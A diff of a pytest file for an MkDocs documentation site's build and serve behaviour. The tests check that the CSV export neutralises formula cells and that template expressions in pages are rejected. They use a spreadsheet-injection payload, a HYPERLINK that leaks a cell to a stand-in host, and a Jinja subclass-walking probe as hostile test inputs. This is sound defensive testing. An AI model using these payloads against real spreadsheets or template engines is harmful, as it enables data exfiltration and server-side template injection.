@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import os
 import re
 import subprocess
@@ -14,7 +15,7 @@ from pathlib import Path
 
 import pytest
 
-from conftest import build_site, copy_project
+from helpers import FORMULAS, build_site, copy_project
 
 TOKEN = "ghp_not-a-real-token-0000"
 WALK = "{{ ''.__class__.__mro__[1].__subclasses__()|length }}"
@@ -68,53 +69,41 @@ def test_a_missing_snippet_fails_the_build(project, tmp_path):
     assert f"docs/embed.md:{line + 1}:8: the snippet 'fastapi_app/no_such_file.py' is not a file in includes/ or examples/" in result.stderr
 
 
-FORMULAS = ['=HYPERLINK("https://example.invalid/?leak="&A1,"More")', "+1 to the other", "-1 against it", "@SUM(A1:A9)"]
-
-
-def test_the_built_csv_export_starts_no_cell_with_a_formula(project, tmp_path, guide):
-    criteria = project / "data" / "criteria.yml"
-    text = criteria.read_text(encoding="utf-8")
-    for criterion, formula in zip(guide.criteria, FORMULAS):
-        verdict = criterion.assessments[guide.frameworks[0].id].verdict
-        assert f"verdict: {verdict}\n" in text
-        text = text.replace(f"verdict: {verdict}\n", f"verdict: '{formula.replace(chr(39), chr(39) * 2)}'\n", 1)
-    criteria.write_text(text, encoding="utf-8")
-    result = build_site(project, tmp_path / "site")
-    assert result.returncode == 0, result.stderr
-    raw = (tmp_path / "site" / "exports" / "comparison.csv").read_text(encoding="utf-8")
+def test_the_built_csv_export_starts_no_cell_with_a_formula(hostile_site):
+    raw = (hostile_site.site / "exports" / "comparison.csv").read_text(encoding="utf-8")
     rows = list(csv.DictReader(io.StringIO(raw, newline="")))
     verdicts = {row["verdict"] for row in rows}
     assert {"'" + formula for formula in FORMULAS} <= verdicts  # before: =HYPERLINK(...) as written
     for row in csv.reader(io.StringIO(raw, newline="")):
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
-    page = (tmp_path / "site" / "comparison" / "index.html").read_text(encoding="utf-8")
+    page = (hostile_site.site / "comparison" / "index.html").read_text(encoding="utf-8")
     assert "@SUM(A1:A9)" in page and "'@SUM" not in page  # only the CSV carries the quote
 
 
 # --- `make serve` --------------------------------------------------------------------------
 
 SERVE = """
-import shutil, sys
+import json, sys
+from pathlib import Path
 from mkdocs.commands.build import build
 from mkdocs.config import load_config
 
-first_site, second_site, broken, fixed = sys.argv[1:]
-config = load_config("mkdocs.yml", site_dir=first_site)
-config.plugins.on_startup(command="serve", dirty=False)  # what `mkdocs serve` does once
-build(config, serve_url="http://127.0.0.1:8000/")
-shutil.copy(fixed, broken)  # the contributor saves the fix; serve rebuilds with a fresh config
-build(load_config("mkdocs.yml", site_dir=second_site), serve_url="http://127.0.0.1:8000/")
+for number, (site_dir, saved) in enumerate(json.loads(sys.argv[1])):
+    for path, text in saved:  # the contributor saves a file; serve rebuilds with a fresh config
+        Path(path).write_text(text, encoding="utf-8")
+    config = load_config("mkdocs.yml", site_dir=site_dir)
+    if number == 0:
+        config.plugins.on_startup(command="serve", dirty=False)  # what `mkdocs serve` does once
+    build(config, serve_url="http://127.0.0.1:8000/")
 """
 
 
-def serve_twice(project: Path, tmp_path: Path, broken: Path, fixed_text: str) -> subprocess.CompletedProcess:
-    fixed = tmp_path / "fixed"
-    fixed.write_text(fixed_text, encoding="utf-8")
+def serve(project: Path, builds: list[tuple[Path, list[tuple[Path, str]]]]) -> subprocess.CompletedProcess:
+    """What `mkdocs serve` does as a contributor saves files: for each build, the files saved
+    before it (path, new text) and the folder it builds into."""
     env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true"}
-    return subprocess.run(
-        [sys.executable, "-c", SERVE, str(tmp_path / "first"), str(tmp_path / "second"), str(broken), str(fixed)],
-        cwd=project, capture_output=True, text=True, env=env,
-    )
+    steps = [[str(site), [[str(path), text] for path, text in saved]] for site, saved in builds]
+    return subprocess.run([sys.executable, "-c", SERVE, json.dumps(steps)], cwd=project, capture_output=True, text=True, env=env)
 
 
 def problem_list(site: Path, page: str) -> list[str]:
@@ -125,31 +114,33 @@ def problem_list(site: Path, page: str) -> list[str]:
     return [li.get_text() for li in alert.select("li")] if alert else []
 
 
-def test_serve_shows_a_data_error_on_every_page_and_recovers_once_fixed(project, tmp_path):
+def test_serve_shows_each_problem_on_the_pages_and_recovers_once_fixed(project, tmp_path):
+    """A data error, then (data fixed) a page problem, then both fixed: one `serve` session. Each
+    problem is listed on the pages instead of a build that never finishes; the page with the
+    problem is not rendered; once fixed, the real pages and exports are back."""
     data = project / "data" / "frameworks.yml"
-    good = data.read_text(encoding="utf-8")
-    data.write_text(good.replace("    licence: MIT", "    licence: MIT\n    licence: MIT", 1), encoding="utf-8")
-    line = good[:good.index("    licence: MIT")].count("\n") + 2
-    result = serve_twice(project, tmp_path, data, good)
-    assert result.returncode == 0, result.stderr  # before: the build failed and the browser waited
-    assert f"data/frameworks.yml:{line}:5: frameworks[0].licence: duplicate key" in result.stderr  # and in the terminal
-    for page in ("index.html", "performance/index.html", "decision/index.html"):
-        [problem] = problem_list(tmp_path / "first", page)
-        assert re.fullmatch(rf"data/frameworks\.yml:{line}:5: frameworks\[0\]\.licence: duplicate key 'licence'.*", problem)
-    assert problem_list(tmp_path / "second", "index.html") == []
-    assert (tmp_path / "second" / "exports" / "comparison.csv").exists()
-
-
-def test_serve_shows_a_page_problem_without_rendering_the_page(project, tmp_path):
+    good_data = data.read_text(encoding="utf-8")
+    data_line = good_data[:good_data.index("    licence: MIT")].count("\n") + 2
     page = project / "docs" / "embed.md"
-    good = page.read_text(encoding="utf-8")
-    line = append(project, "embed.md", f"\nSubclasses: {WALK}\n") + 1
-    result = serve_twice(project, tmp_path, page, good)
-    assert result.returncode == 0, result.stderr
-    [problem] = problem_list(tmp_path / "first", "embed/index.html")
-    assert problem.startswith(f"docs/embed.md:{line}:13: `{WALK}` is not a call")
-    assert "Subclasses: " not in (tmp_path / "first" / "embed" / "index.html").read_text(encoding="utf-8")
-    assert problem_list(tmp_path / "second", "embed/index.html") == []
+    good_page = page.read_text(encoding="utf-8")
+    page_line = good_page.count("\n") + 2
+    data_error, page_problem, fixed = tmp_path / "data-error", tmp_path / "page-problem", tmp_path / "fixed"
+    result = serve(project, [
+        (data_error, [(data, good_data.replace("    licence: MIT", "    licence: MIT\n    licence: MIT", 1))]),
+        (page_problem, [(data, good_data), (page, good_page + f"\nSubclasses: {WALK}\n")]),
+        (fixed, [(page, good_page)]),
+    ])
+    assert result.returncode == 0, result.stderr  # before: the build failed and the browser waited
+    duplicate = f"data/frameworks.yml:{data_line}:5: frameworks[0].licence: duplicate key"
+    assert duplicate in result.stderr  # and in the terminal
+    for shown in ("index.html", "performance/index.html", "decision/index.html"):
+        [problem] = problem_list(data_error, shown)
+        assert re.fullmatch(rf"data/frameworks\.yml:{data_line}:5: frameworks\[0\]\.licence: duplicate key 'licence'.*", problem)
+    [problem] = problem_list(page_problem, "embed/index.html")  # the data error is gone
+    assert problem.startswith(f"docs/embed.md:{page_line}:13: `{WALK}` is not a call")
+    assert "Subclasses: " not in (page_problem / "embed" / "index.html").read_text(encoding="utf-8")
+    assert problem_list(fixed, "index.html") == [] and problem_list(fixed, "embed/index.html") == []
+    assert (fixed / "exports" / "comparison.csv").exists()
 
 
 def test_the_real_build_never_shows_problems_as_a_page(project, tmp_path):
